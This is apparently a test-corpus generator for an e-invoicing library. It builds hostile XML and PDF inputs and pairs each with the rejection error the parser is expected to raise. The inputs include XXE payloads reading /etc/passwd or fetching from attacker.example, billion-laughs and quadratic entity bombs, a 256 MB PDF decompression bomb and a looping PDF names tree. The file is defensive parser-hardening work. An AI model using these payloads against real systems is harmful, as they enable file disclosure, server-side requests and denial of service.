"""The hostile-input corpus: each case is built here (bombs in memory, never on disk).

`python -m tests.einvoice.hostile.generate` writes the small cases (< 64 KB) next to this
file for inspection with other tools; the tests build every case from `CASES`.
"""

from __future__ import annotations

import zlib
from collections.abc import Callable
from pathlib import Path

from facturier.einvoice.errors import EInvoiceError, MalformedInput, UnsafeInput, UnsupportedContent

CII_OPEN = (
    b'<rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100" '
    b'xmlns:ram="urn:un:unece:uncefact:data:standard:ReusableAggregateBusinessInformationEntity:100">'
)
CII_CLOSE = b"</rsm:CrossIndustryInvoice>"
MB = 1024 * 1024


def _with_dtd(subset: bytes, body: bytes) -> bytes:
    return (
        b'<?xml version="1.0"?>\n<!DOCTYPE rsm:CrossIndustryInvoice [' + subset + b"]>\n" + CII_OPEN + body + CII_CLOSE
    )


def xxe_file() -> bytes:
    return _with_dtd(b'<!ENTITY xxe SYSTEM "file:///etc/passwd">', b"<ram:ID>&xxe;</ram:ID>")


def xxe_network() -> bytes:
    return _with_dtd(b'<!ENTITY xxe SYSTEM "http://attacker.example/x">', b"<ram:ID>&xxe;</ram:ID>")


def xxe_parameter_entity() -> bytes:
    return _with_dtd(b'<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;', b"")


def external_dtd() -> bytes:
    return b'<?xml version="1.0"?>\n<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">\n' + CII_OPEN + CII_CLOSE


def billion_laughs() -> bytes:
    entities = [b'<!ENTITY lol0 "lol">']
    entities += [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">'.encode() for i in range(1, 10)]
    return _with_dtd(b"".join(entities), b"<ram:ID>&lol9;</ram:ID>")


def quadratic_blowup() -> bytes:
    return _with_dtd(b'<!ENTITY a "' + b"A" * 50_000 + b'">', b"<ram:ID>" + b"&a;" * 50_000 + b"</ram:ID>")


def doctype_utf16() -> bytes:
    return (
        xxe_file()
        .replace(b'<?xml version="1.0"?>', b'<?xml version="1.0" encoding="UTF-16"?>')
        .decode()
        .encode("utf-16")
    )


def oversize() -> bytes:
    return CII_OPEN + b"<ram:Note>" + b"x" * (11 * MB) + b"</ram:Note>" + CII_CLOSE


def deep_nesting() -> bytes:
    return CII_OPEN + b"<a>" * 100_000 + b"</a>" * 100_000 + CII_CLOSE


def too_many_elements() -> bytes:
    return CII_OPEN + b"<a/>" * 250_000 + CII_CLOSE


def truncated() -> bytes:
    return CII_OPEN + b"<ram:ID>F1</ram:"


def not_xml() -> bytes:
    return bytes(range(256)) * 4


def wrong_root() -> bytes:
    return b"<html><body>invoice</body></html>"


def missing_settlement() -> bytes:
    return CII_OPEN + b"<rsm:ExchangedDocument><ram:ID>F1</ram:ID></rsm:ExchangedDocument>" + CII_CLOSE


def _valid_cii() -> bytes:
    from tests.einvoice.scenarios import domestic_b2b

    from facturier.einvoice.cii.writer import write_cii

    return write_cii(domestic_b2b())


def exponent_amount() -> bytes:
    return _valid_cii().replace(b"<ram:DuePayableAmount>672.00<", b"<ram:DuePayableAmount>1E+999999<")


def impossible_date() -> bytes:
    return _valid_cii().replace(b">20261001<", b">20261341<", 1)


def unknown_type_code() -> bytes:
    return _valid_cii().replace(b"<ram:TypeCode>380</ram:TypeCode>", b"<ram:TypeCode>999</ram:TypeCode>", 1)


# --- PDF ------------------------------------------------------------------------------------


def make_pdf(files: list[tuple[str, bytes, bool]], names_tree: bytes | None = None) -> bytes:
    """A minimal PDF whose catalog embeds `files` (name, raw stream, FlateDecode?)."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 3 0 R >> >>",
        b"<< /Type /Pages /Kids [] /Count 0 >>",
    ]
    entries = []
    for index, (name, raw, flate) in enumerate(files):
        spec_id, stream_id = 4 + 2 * index, 5 + 2 * index
        entries.append(f"({name}) {spec_id} 0 R".encode())
        objects.append(f"<< /Type /Filespec /F ({name}) /UF ({name}) /EF << /F {stream_id} 0 R >> >>".encode())
        filters = b" /Filter /FlateDecode" if flate else b""
        objects.append(
            b"<< /Type /EmbeddedFile /Length "
            + str(len(raw)).encode()
            + filters
            + b" >>\nstream\n"
            + raw
            + b"\nendstream"
        )
    objects.insert(2, names_tree or b"<< /Names [" + b" ".join(entries) + b"] >>")
    out = b"%PDF-1.7\n"
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return out


def pdf_bomb() -> bytes:
    compressor = zlib.compressobj(9)
    chunk = b"\0" * MB
    raw = b"".join(compressor.compress(chunk) for _ in range(256)) + compressor.flush()  # 256 MB inflated
    return make_pdf([("factur-x.xml", raw, True)])


def pdf_many_attachments() -> bytes:
    return make_pdf([(f"file{i}.txt", b"x", False) for i in range(200)])


def pdf_kids_loop() -> bytes:
    return make_pdf([("factur-x.xml", b"<x/>", False)], names_tree=b"<< /Kids [3 0 R] >>")


def pdf_garbage() -> bytes:
    return b"%PDF-1.7\n" + bytes(range(256)) * 64


def pdf_without_invoice() -> bytes:
    return make_pdf([("readme.txt", b"hello", False)])


def pdf_with_xxe() -> bytes:
    return make_pdf([("factur-x.xml", zlib.compress(xxe_file()), True)])


def pdf_corrupt_stream() -> bytes:
    return make_pdf([("factur-x.xml", b"not zlib at all", True)])


Case = tuple[Callable[[], bytes], type[EInvoiceError]]
CASES: dict[str, Case] = {
    "xxe_file": (xxe_file, UnsafeInput),
    "xxe_network": (xxe_network, UnsafeInput),
    "xxe_parameter_entity": (xxe_parameter_entity, UnsafeInput),
    "external_dtd": (external_dtd, UnsafeInput),
    "billion_laughs": (billion_laughs, UnsafeInput),
    "quadratic_blowup": (quadratic_blowup, UnsafeInput),
    "doctype_utf16": (doctype_utf16, UnsafeInput),
    "oversize": (oversize, UnsafeInput),
    "deep_nesting": (deep_nesting, MalformedInput),
    "too_many_elements": (too_many_elements, UnsafeInput),
    "truncated": (truncated, MalformedInput),
    "not_xml": (not_xml, MalformedInput),
    "wrong_root": (wrong_root, MalformedInput),
    "missing_settlement": (missing_settlement, MalformedInput),
    "exponent_amount": (exponent_amount, MalformedInput),
    "impossible_date": (impossible_date, MalformedInput),
    "unknown_type_code": (unknown_type_code, UnsupportedContent),
    "pdf_bomb": (pdf_bomb, UnsafeInput),
    "pdf_many_attachments": (pdf_many_attachments, UnsafeInput),
    "pdf_kids_loop": (pdf_kids_loop, UnsafeInput),
    "pdf_garbage": (pdf_garbage, MalformedInput),
    "pdf_without_invoice": (pdf_without_invoice, UnsupportedContent),
    "pdf_with_xxe": (pdf_with_xxe, UnsafeInput),
    "pdf_corrupt_stream": (pdf_corrupt_stream, MalformedInput),
}


def main() -> None:
    here = Path(__file__).parent
    for name, (build, _) in CASES.items():
        data = build()
        if len(data) < 64 * 1024:
            suffix = "pdf" if data.startswith(b"%PDF") else "xml"
            (here / f"{name}.{suffix}").write_bytes(data)


if __name__ == "__main__":
    main()
